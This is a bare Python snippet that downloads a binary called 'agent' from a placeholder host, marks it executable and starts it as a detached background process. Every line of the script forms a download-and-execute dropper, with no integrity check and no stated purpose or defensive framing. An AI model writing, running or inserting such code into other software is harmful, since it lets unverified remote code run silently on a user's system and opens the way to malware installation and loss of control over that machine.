import os
import subprocess
import urllib.request

urllib.request.urlretrieve("https://cdn.example.invalid/agent", "agent")
os.chmod("agent", 0o755)
subprocess.Popen(["./agent"], start_new_session=True)
